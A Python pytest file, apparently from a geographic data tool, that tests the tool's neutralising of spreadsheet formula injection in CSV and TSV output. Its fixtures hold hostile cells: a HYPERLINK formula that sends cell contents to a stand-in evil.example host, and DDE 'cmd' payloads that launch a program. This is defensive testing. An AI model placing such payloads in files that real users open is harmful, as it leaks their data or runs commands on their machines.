"""What strangers wrote does not act when a table is opened in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

from tests.real_build import factory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"map")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "-SUM(1)",
    "+A(1)",
]
WITHIN = {
    'x;=HYPERLINK("http://evil.example")': 'x;\'=HYPERLINK("http://evil.example")',
    "x\n=cmd|' /C calc'!A0": "x\n'=cmd|' /C calc'!A0",
    'x\r\n" @SUM(1)': "x\r\n\" '@SUM(1)",
    "a;-1+HYPERLINK(1);b;=1": "a;'-1+HYPERLINK(1);b;'=1",
    "=1;=2": "'=1;'=2",
    "\t=3": "'\t'=3",
}
"""Cells that hold a formula for a program that parts columns by semicolons, and how they leave."""
KEPT = [
    "12;-3;+4",
    "a list:\n- one\n- two",
    "one; two",
    "-33.93",
    "+49 8.5",
    "-33\u00b054'12\"S",
    "-1e-5",
    "-5,5",
    "a=b",
    "'=1",
    "",
    "a-b",
    "\u2212" + "5",
    "-",
    " =1",
]
HEAD = "=IMPORTXML(1)"


def rows(path: Path, separator: str) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter=separator))


@pytest.mark.parametrize("out", ["out.csv", "out.tsv"])
@pytest.mark.parametrize("source", ["in.csv", "in.parquet"])
def test_no_formula_leaves_in_a_table(tmp_path: Path, source: str, out: str) -> None:
    cells = [*FORMULAS, *KEPT]
    table = pl.DataFrame({HEAD: cells, "lat": ["60.17"] * len(cells), "lon": ["-1.5"] * len(cells)})
    if source == "in.parquet":
        table.with_columns(pl.col(HEAD).cast(pl.Categorical)).write_parquet(tmp_path / source)
    else:
        table.write_csv(tmp_path / source)
    done = factory("geo", "label", source, out, cwd=tmp_path)
    assert done.returncode == 0 and f"{len(FORMULAS)} cells begin like a formula" in done.stderr, done
    head, *found = rows(tmp_path / out, "\t" if out.endswith("tsv") else ",")
    assert head[:3] == [f"'{HEAD}", "lat", "lon"]
    assert [row[0] for row in found] == [*(f"'{cell}" for cell in FORMULAS), *KEPT]
    assert {row[2] for row in found} == {"-1.5"}


@pytest.mark.parametrize("out", ["out.csv", "out.tsv"])
def test_no_formula_begins_behind_a_semicolon_or_a_line_break(tmp_path: Path, out: str) -> None:
    table = pl.DataFrame({"a;=1": [*WITHIN], "lat": ["60.17"] * len(WITHIN), "lon": ["-1.5"] * len(WITHIN)})
    table.write_csv(tmp_path / "in.csv")
    done = factory("geo", "label", "in.csv", out, cwd=tmp_path)
    assert done.returncode == 0 and f"{len(WITHIN)} cells begin like a formula" in done.stderr, done
    head, *found = rows(tmp_path / out, "\t" if out.endswith("tsv") else ",")
    assert head[0] == "a;'=1" and [row[0] for row in found] == [*WITHIN.values()]
    if out.endswith("csv"):
        cells = [cell for row in rows(tmp_path / out, ";") for cell in row]
        assert not [cell for cell in cells if cell.lstrip(' "').startswith(("=", "@"))], cells


def test_formats_that_nothing_runs_keep_cells_as_they_came(tmp_path: Path) -> None:
    cells = [*FORMULAS, *KEPT]
    pl.DataFrame({HEAD: cells, "lat": 60.17, "lon": 24.9}).write_csv(tmp_path / "in.csv")
    pl.DataFrame({"a": cells, "lat": 60.17, "lon": 24.9}).write_ndjson(tmp_path / "in.jsonl")
    for source, out in (("in.csv", "out.parquet"), ("in.jsonl", "out.jsonl")):
        done = factory("geo", "label", source, out, cwd=tmp_path)
        assert done.returncode == 0 and "formula" not in done.stderr, done
    assert [cell or "" for cell in pl.read_parquet(tmp_path / "out.parquet")[HEAD]] == cells
    assert pl.read_ndjson(tmp_path / "out.jsonl")["a"].to_list() == cells


def test_a_drawn_sample_has_no_formula_either(tmp_path: Path) -> None:
    pl.DataFrame({"name": ["=1+1"] * 40, "lat": [60.17] * 40, "lon": [24.94] * 40}).write_csv(tmp_path / "pool.csv")
    done = factory("geo", "sample", "gws15k", "pool.csv", "drawn.csv", "-n", "5", cwd=tmp_path)
    assert done.returncode in (0, 1) and "begin like a formula" in done.stderr, done
    assert {row[0] for row in rows(tmp_path / "drawn.csv", ",")[1:]} == {"'=1+1"}
